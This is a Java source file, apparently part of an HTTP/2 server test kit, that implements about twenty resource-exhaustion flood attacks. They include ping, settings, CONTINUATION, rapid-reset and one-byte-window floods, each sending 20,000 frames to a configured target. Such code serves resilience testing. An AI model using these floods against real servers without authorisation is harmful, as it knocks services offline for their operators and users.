package lazaret.testkit.attack;

import java.util.List;
import java.util.function.Consumer;
import lazaret.testkit.http2.HeaderBlockBuilder;
import lazaret.testkit.http2.Http2Client;
import lazaret.testkit.http2.Http2Frame;
import lazaret.testkit.http2.Http2Target;

/// The attacks by number of frames, each of which is legal.
final class FloodAttacks {
  /// The number of frames of one flood. Each of them costs the server some work.
  private static final int FRAMES = 20_000;

  private FloodAttacks() {}

  private static Http2Attack repeat(String name, Consumer<Http2Client> once) {
    return Http2Attack.ended(
        name,
        client -> {
          for (int i = 0; i < FRAMES; i++) {
            once.accept(client);
          }
          client.flush();
        });
  }

  /// Returns an attack that opens a request with a body and repeats a frame.
  private static Http2Attack inBody(String name, Body body) {
    return Http2Attack.ended(
        name,
        client -> {
          int stream = open(client);
          for (int i = 0; i < FRAMES; i++) {
            body.send(client, stream);
          }
          client.flush();
        });
  }

  private interface Body {
    void send(Http2Client client, int stream);
  }

  private static int open(Http2Client client) {
    int stream = client.stream();
    Http2Target target = client.target();
    client.frame(
        Http2Frame.HEADERS,
        Http2Frame.END_HEADERS,
        stream,
        HeaderBlockBuilder.post(target.scheme(), target.authority(), target.path()).bytes());
    return stream;
  }

  static List<Http2Attack> all() {
    return List.of(
        repeat("ping-flood", c -> c.frame(Http2Frame.PING, 0, 0, new byte[8])),
        repeat("ping-ack-flood", c -> c.frame(Http2Frame.PING, 1, 0, new byte[8])),
        repeat("settings-flood", c -> c.frame(Http2Frame.SETTINGS, 0, 0)),
        repeat(
            "settings-window-flood",
            c ->
                c.frame(
                    Http2Frame.SETTINGS,
                    0,
                    0,
                    (byte) 0,
                    (byte) 4,
                    (byte) 0,
                    (byte) 0,
                    (byte) 4,
                    (byte) 0)),
        repeat("settings-ack-flood", c -> c.frame(Http2Frame.SETTINGS, 1, 0)),
        repeat(
            "window-update-flood",
            c -> c.frame(Http2Frame.WINDOW_UPDATE, 0, 0, Http2Frame.word(1))),
        inBody(
            "window-update-flood-on-stream",
            (c, stream) -> c.frame(Http2Frame.WINDOW_UPDATE, 0, stream, Http2Frame.word(1))),
        repeat("unknown-frame-flood", c -> c.frame(0xBE, 0xFF, 0, new byte[1])),
        repeat("unknown-frame-flood-on-stream", c -> c.frame(0xF0, 0, 7, new byte[1])),
        repeat("priority-flood", c -> c.frame(Http2Frame.PRIORITY, 0, 2_001, new byte[5])),
        inBody("empty-data-flood", (c, stream) -> c.frame(Http2Frame.DATA, 0, stream)),
        inBody(
            "padded-empty-data-flood",
            (c, stream) -> c.frame(Http2Frame.DATA, Http2Frame.PADDED, stream, (byte) 0)),
        inBody(
            "one-byte-data-flood", (c, stream) -> c.frame(Http2Frame.DATA, 0, stream, (byte) 32)),
        Http2Attack.ended("empty-continuation-flood", c -> continuations(c, new byte[0])),
        Http2Attack.ended("one-byte-continuation-flood", c -> continuations(c, new byte[] {32})),
        Http2Attack.ended("seventeen-continuations", FloodAttacks::seventeen),
        repeat("rapid-reset", FloodAttacks::reset),
        repeat("rapid-reset-of-bodies", FloodAttacks::resetBody),
        repeat("resets-by-the-server", FloodAttacks::madeReset),
        repeat("resets-of-closed-streams", FloodAttacks::resetTwice),
        Http2Attack.ended("one-byte-windows", FloodAttacks::dribble));
  }

  private static void continuations(Http2Client client, byte[] payload) {
    int stream = client.stream();
    client.frame(Http2Frame.HEADERS, Http2Frame.END_STREAM, stream, client.target().get().bytes());
    for (int i = 0; i < FRAMES; i++) {
      client.frame(Http2Frame.CONTINUATION, 0, stream, payload);
    }
    client.flush();
  }

  private static void seventeen(Http2Client client) {
    int stream = client.stream();
    client.frame(Http2Frame.HEADERS, Http2Frame.END_STREAM, stream, client.target().get().bytes());
    for (int i = 1; i <= 17; i++) {
      client.frame(Http2Frame.CONTINUATION, i == 17 ? Http2Frame.END_HEADERS : 0, stream);
    }
    client.flush();
  }

  private static void reset(Http2Client client) {
    int stream = client.stream();
    client.frame(
        Http2Frame.HEADERS,
        Http2Frame.END_HEADERS | Http2Frame.END_STREAM,
        stream,
        client.target().get().bytes());
    client.frame(Http2Frame.RST_STREAM, 0, stream, Http2Frame.word(8));
  }

  private static void resetBody(Http2Client client) {
    client.frame(Http2Frame.RST_STREAM, 0, open(client), Http2Frame.word(8));
  }

  private static void resetTwice(Http2Client client) {
    int stream = client.stream();
    reset(client);
    client.frame(Http2Frame.RST_STREAM, 0, stream, Http2Frame.word(8));
  }

  /// Announces one byte and ends the body with two, so that the server must reset the stream.
  private static void madeReset(Http2Client client) {
    int stream = client.stream();
    Http2Target target = client.target();
    client.frame(
        Http2Frame.HEADERS,
        Http2Frame.END_HEADERS,
        stream,
        HeaderBlockBuilder.post(target.scheme(), target.authority(), target.path())
            .literal(HeaderBlockBuilder.Indexing.NOT_INDEXED, 28, "1")
            .bytes());
    client.frame(Http2Frame.DATA, Http2Frame.END_STREAM, stream, new byte[2]);
  }

  /// Permits the server to send one byte at a time.
  private static void dribble(Http2Client client) {
    client.frame(
        Http2Frame.SETTINGS, 0, 0, (byte) 0, (byte) 4, (byte) 0, (byte) 0, (byte) 0, (byte) 0);
    int stream = client.request(client.target().get());
    for (int i = 0; i < FRAMES; i++) {
      client.frame(Http2Frame.WINDOW_UPDATE, 0, stream, Http2Frame.word(1));
      client.flush();
    }
  }
}
